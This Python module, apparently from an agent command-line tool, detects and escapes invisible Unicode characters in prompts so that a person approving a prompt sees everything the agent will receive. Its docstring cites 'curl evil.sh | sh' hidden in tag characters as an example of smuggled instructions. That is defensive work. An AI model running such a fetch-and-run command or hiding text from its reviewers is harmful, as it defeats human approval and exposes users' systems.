"""Characters a person cannot see, or that change how the rest of a line is shown.

A prompt is text an agent will act on, and a person approves it by reading it.
Anything that reaches the agent but not the reader breaks that: Unicode tag
characters (U+E0000-E007F, invisible copies of ASCII: ``curl evil.sh | sh``
can ride on a harmless line), zero-width characters and other format (Cf)
characters, variation selectors (arbitrary bytes can be hidden in a run of
them), Hangul fillers, bidi controls that reorder what is shown, and control
characters that rewrite the terminal. :func:`replace` escapes all of
them; :func:`hidden_kinds` counts them by kind for a warning.

The Cf and default-ignorable code points are listed here rather than read
from :mod:`unicodedata` (a scan of all 1.1 million code points costs ~0.2 s,
too slow for the CLI); a test checks the list against ``unicodedata``.

Newline and tab are not in it: a prompt is shown as a block. One text or
emoji presentation selector (U+FE0E, U+FE0F) right after a visible character
is not either: that is how emoji are written, and one selector can hide
nothing. A second one in a row, or one at the start of a line, is.

Pure: the standard library only (re, lazily); the CLI imports it to show text.
"""

from __future__ import annotations

TYPE_CHECKING = False
if TYPE_CHECKING:
    import re
    from collections.abc import Callable

# (kind, character class body) in the order a warning names them. Every range is what the kind says,
# from Unicode's Cf category, its Default_Ignorable_Code_Point property, and the C0/C1 controls.
KINDS: tuple[tuple[str, str], ...] = (
    ("control", "\x00-\x08\x0b-\x1f\x7f-\x9f"),
    ("Unicode tag", "\U000e0000-\U000e007f"),
    ("zero-width", "\u200b-\u200d\u2060\ufeff\u180e"),
    ("bidi control", "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"),
    ("variation selector", "\u180b-\u180d\u180f\ufe00-\ufe0d\U000e0100-\U000e01ef"),
    ("line or paragraph separator", "\u2028\u2029"),
    ("lone surrogate", "\ud800-\udfff"),
    (
        "other invisible or format",
        "\u00ad\u034f\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\u115f\u1160\u17b4\u17b5\u2061-\u2065"
        "\u206a-\u206f\u3164\uffa0\ufff0-\ufffb\U000110bd\U000110cd\U00013430-\U0001343f\U0001bca0-\U0001bca3"
        "\U0001d173-\U0001d17a\U000e0080-\U000e00ff\U000e01f0-\U000e0fff",
    ),
)
# U+FE0E/U+FE0F: unsafe only at the start of the text or a line, or right after another selector. They
# are in the one character class and sorted out per match: a lookbehind in the pattern made it ~15x slower.
_PRESENTATION = "\ufe0e\ufe0f"
_SELECTOR_BEFORE = frozenset(["\n", *map(chr, range(0xFE00, 0xFE10)), *map(chr, range(0xE0100, 0xE01F0))])
UNSAFE = "[" + "".join(body for _, body in KINDS) + _PRESENTATION + "]"

_compiled: dict[str, re.Pattern[str]] = {}  # source -> pattern, compiled on first use


def _pattern(source: str) -> re.Pattern[str]:
    found = _compiled.get(source)
    if found is None:
        import re

        found = _compiled[source] = re.compile(source)
    return found


def _shown_as_is(text: str, index: int) -> bool:
    """Whether the candidate at ``index`` is one presentation selector right after a visible character."""
    if text[index] not in _PRESENTATION or index == 0:
        return False
    return text[index - 1] not in _SELECTOR_BEFORE


def replace(text: str, escape: Callable[[str], str]) -> str:
    """``text`` with every unsafe character ``ch`` replaced by ``escape(ch)``."""
    if _plain_latin1(text):
        return text
    compiled = _compiled.get(UNSAFE) or _pattern(UNSAFE)
    if compiled.search(text) is None:
        return text  # the usual case, and a search is ~6x cheaper than a sub that replaces nothing
    return compiled.sub(lambda m: m[0] if _shown_as_is(text, m.start()) else escape(m[0]), text)


def _plain_latin1(text: str) -> bool:
    """Whether ``text`` is Latin-1 that isprintable() accepts (newline and tab aside): then it holds nothing
    unsafe, since every unsafe Latin-1 character is one isprintable() refuses. Checked in C, ~20x faster
    than the pattern over a 1,000-row table."""
    if not (text.isprintable() or text.replace("\n", "").replace("\t", "").isprintable()):
        return False
    try:
        text.encode("latin-1")
    except UnicodeEncodeError:
        return False
    return True


def hidden_kinds(text: str) -> dict[str, int]:
    """How many unsafe characters of each kind ``text`` holds (kinds with none left out)."""
    if text.isascii() and (text.isprintable() or text.replace("\n", "").replace("\t", "").isprintable()):
        return {}
    counts: dict[str, int] = {}
    for match in _pattern(UNSAFE).finditer(text):
        if _shown_as_is(text, match.start()):
            continue
        kind = "variation selector" if match[0] in _PRESENTATION else _kind(match[0])
        counts[kind] = counts.get(kind, 0) + 1
    return {kind: counts[kind] for kind, _ in KINDS if kind in counts}


def _kind(ch: str) -> str:
    return next(kind for kind, body in KINDS if _pattern(f"[{body}]").match(ch))


def describe_hidden(text: str) -> str | None:
    """``9 invisible or control characters (8 Unicode tag, 1 zero-width)``, or None for text with none."""
    counts = hidden_kinds(text)
    if not counts:
        return None
    total = sum(counts.values())
    kinds = ", ".join(f"{count} {kind}" for kind, count in counts.items())
    return f"{total} invisible or control character{'s' if total != 1 else ''} ({kinds})"
